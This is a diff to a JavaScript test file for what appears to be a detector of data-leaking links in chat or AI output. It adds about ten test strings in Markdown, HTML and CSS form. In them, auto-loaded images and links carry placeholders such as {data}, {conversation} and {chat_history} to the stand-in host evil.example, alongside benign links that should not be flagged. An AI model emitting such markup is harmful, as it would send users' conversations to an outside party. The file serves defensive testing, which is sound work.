@@ -14,8 +14,34 @@ test("an image whose address waits for data is found, with the whole link as its
   }
 });
 
+test("it is found in every form that is shown without a click, and in the path and fragment by its name", () => {
+  for (const text of [
+    '<img src="https://evil.example/p?q={data}">',
+    "<img src=https://evil.example/p?q={data}>",
+    "![x][r]\n\n[r]: https://evil.example/p?q={data}",
+    "![x](//evil.example/p?q={data})",
+    "![x](\nhttps://evil.example/p?q={data})",
+    "![x](<https://evil.example/p?q={data}>)",
+    `<div style="background:url('https://evil.example/?q={data}')">`,
+    "![x](https://evil.example/{conversation}/p.png)",
+    "![x](https://evil.example/p.png#{history})",
+    "[more](https://evil.example/?q={chat_history})",
+  ])
+    assert.equal(answer(text).findings.length, 1, text);
+});
+
+test("many openings of links cost no more than one reading", () => {
+  for (const mark of ["![x](", "](https://", '<img src="//', "url(//", "[x]: //"])
+    assert.deepEqual(answer(mark.repeat(20_000)).findings, [], mark);
+});
+
 test("ordinary links, images and code are not", () => {
   for (const text of [
+    "[filter](https://shop.example.com/list?filter[color]=red&page[size]=10)",
+    "[odata](https://graph.example/v1/users?$filter=name&$top=5)",
+    "[x](https://example.com/search?q=a[0]=1)",
+    "[See the docs](https://api.example.com/users?id={id}&limit=<n>)",
+    "![badge](https://badge.example/npm/v/{package}.svg)",
     "See [the docs](https://docs.example/a?b=c&d=1) and ![logo](https://img.example/logo.png).",
     "`rows[index](callback)`",
     "![signed](https://bucket.example/a.png?X-Signature=0123456789abcdef0123456789abcdef0123456789abcdef0123)",
